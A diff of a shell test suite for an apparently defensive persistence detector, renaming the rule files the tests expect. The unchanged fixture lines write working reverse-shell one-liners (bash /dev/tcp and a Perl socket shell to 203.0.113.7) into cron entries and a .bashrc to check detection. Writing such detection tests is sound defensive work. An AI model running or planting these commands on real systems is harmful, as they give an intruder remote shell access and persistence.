@@ -39,7 +39,7 @@ teardown() {
 	echo '*/5 * * * * root bash -i >& /dev/tcp/203.0.113.7/4444 0>&1' \
 		>"$root/etc/cron.d/sync"
 	judge "$root"
-	responds persist_cron_network_shell.yml
+	responds persist_network_shell.yml
 	[ "$(verdict)" = respond ]
 	event '.konseki.autorun.mechanism == "cron" and .user.name == "root" and
 		.konseki.source == "/etc/cron.d/sync" and
@@ -53,7 +53,7 @@ teardown() {
 		'@reboot perl -MSocket -e '"'"'socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(443,inet_aton("203.0.113.7")));open(STDIN,">&S");exec("/bin/sh -i");'"'" \
 		>"$root/var/spool/cron/crontabs/hana"
 	judge "$root"
-	responds persist_cron_network_shell.yml
+	responds persist_network_shell.yml
 	event '.konseki.autorun and .user.name == "hana"'
 }
 
@@ -73,7 +73,7 @@ teardown() {
 	ln -s ../netcheck.service \
 		"$root/etc/systemd/system/multi-user.target.wants/"
 	judge "$root"
-	responds persist_systemd_fetch_and_run.yml
+	responds persist_fetch_and_run.yml
 	event '.konseki.autorun.mechanism // "" | startswith("systemd")'
 }
 
@@ -84,7 +84,7 @@ teardown() {
 	echo '(bash -i >& /dev/tcp/203.0.113.7/53 0>&1 &)' \
 		>"$root/home/hana/.bashrc"
 	judge "$root"
-	responds persist_rc_network_shell.yml
+	responds persist_network_shell.yml
 	event '.konseki.autorun and .konseki.source == "/etc/rc.local"'
 	event '.konseki.autorun and .konseki.source == "/home/hana/.bashrc"'
 }
@@ -232,8 +232,8 @@ teardown() {
 	responds account_second_uid0.yml persist_key_service_account.yml \
 		file_core_program_modified.yml file_suid_interpreter.yml \
 		persist_ld_so_preload_unpackaged.yml \
-		persist_cron_fetch_and_run.yml \
-		persist_systemd_network_shell.yml
+		persist_fetch_and_run.yml \
+		persist_network_shell.yml
 	found watch | grep -qx 'watch file_suid_unpackaged.yml'
 	[ "$(jq -r 'select(.rule.file | endswith("core_program_modified.yml"))
 		| .count' "$case_file.findings")" = 1 ]
